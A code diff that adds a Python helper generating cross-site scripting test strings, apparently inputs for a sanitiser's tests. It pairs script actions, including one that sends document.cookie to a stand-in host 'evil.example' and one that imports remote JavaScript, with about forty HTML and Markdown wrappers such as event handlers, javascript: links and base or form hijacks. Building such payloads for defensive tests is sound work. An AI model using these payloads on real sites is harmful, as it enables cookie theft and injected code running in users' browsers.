@@ -110,3 +110,36 @@ def _is_in(letter: str, members: Any) -> bool:
         if op is ops.CATEGORY and _CATEGORIES.get(value) == letter:
             return True
     return False
+
+
+def _xss_texts() -> list[str]:
+    """Return what a careless page would run, load or follow."""
+    runs = (
+        *("alert(1)", "fetch('//evil.example/'+document.cookie)", "top.location='//x'"),
+        *("parent.postMessage(1,'*')", "import('//evil.example/x.js')"),
+    )
+    wraps = (
+        "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</textarea><script>{}</script>",
+        "</title><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
+        "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><script>{}</script>",
+        "<body onload=\"{}\">", "<details open ontoggle=\"{}\">",
+        "<input autofocus onfocus=\"{}\">", "<video src onerror=\"{}\">",
+        "<math><mi xlink:href=\"javascript:{}\">x</mi></math>",
+        "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
+        "<iframe src=\"javascript:{}\"></iframe>", "<object data=\"javascript:{}\">",
+        "<embed src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>",
+        "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](&#106;avascript:{})",
+        "[x](java\tscript:{})", "[x](data:text/html,<script>{}</script>)",
+        "[x](vbscript:{})", "![x](javascript:{})", "![x\" onerror=\"{}](https://a/b)",
+        "[x](https://a/b \"\\\" onclick=\\\"{}\")", "<javascript:{}>",
+        "[r]\n\n[r]: javascript:{}", "```\"><script>{}</script>\nx\n```",
+        "```html onload={}\nx\n```", "`<script>{}</script>`", "# <script>{}</script>",
+        "| a |\n| - |\n| <script>{}</script> |", "> <script>{}</script>",
+        "<!--><script>{}</script>-->", "<style>@import '//evil.example/{}'</style>",
+        "<base href=\"//evil.example/\">{}",
+        "<form action=\"//evil.example\">{}</form>",
+    )  # fmt: skip
+    return [wrap.format(run) for run in runs for wrap in wraps]
+
+
+XSS_TEXTS = _xss_texts()
